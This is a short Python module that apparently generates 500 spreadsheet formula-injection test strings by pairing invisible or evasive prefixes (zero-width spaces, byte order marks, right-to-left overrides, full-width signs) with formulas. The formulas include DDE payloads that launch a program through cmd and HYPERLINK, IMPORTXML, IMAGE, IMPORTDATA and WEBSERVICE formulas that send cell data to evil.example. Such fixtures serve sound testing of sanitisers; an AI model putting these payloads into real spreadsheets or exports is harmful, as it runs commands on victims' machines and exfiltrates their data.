"""500 texts that a spreadsheet could run, each once: every way to hide the beginning of a formula, before every formula."""

from __future__ import annotations

from typing import Final

HIDDEN: Final = (  # what stands before a formula: white space, what nobody sees, quotes, and ends of cells
    "",
    " ",
    "\u00a0",  # no-break space
    "\u3000",  # ideographic space
    "\u200b",  # zero-width space
    "\u200c",  # zero-width non-joiner, which names may hold
    "\ufeff",  # byte order mark
    "\u2060",  # word joiner
    "\u00ad",  # soft hyphen
    "\u202e",  # right-to-left override
    "\u3164",  # Hangul filler
    "\x00",
    "\t",
    "\r",
    "\n",
    "'",
    '"',
    '",',
    '";',
    ";",
    "a;",
    "a;\u200b ",
    "a\n",
    "a\r\n\ufeff",
    "a\t\u2028",
)
FORMULAS: Final = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Your invoice")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=IMAGE("https://evil.example/"&B2)',
    '=IMPORTDATA("https://evil.example/?"&A1)',
    '=WEBSERVICE("https://evil.example/?"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "={1;2}",
    '=1+1";=2+2',
    "=A1,\n=B1",
    "+1+cmd|'/C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|'/C calc'!A0",
    "-1",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "＝1+1",
    "＋SUM(1,2)",
    "－1",
    "﹫SUM(1)",
)
TEXTS: Final = tuple(hidden + formula for hidden in HIDDEN for formula in FORMULAS)
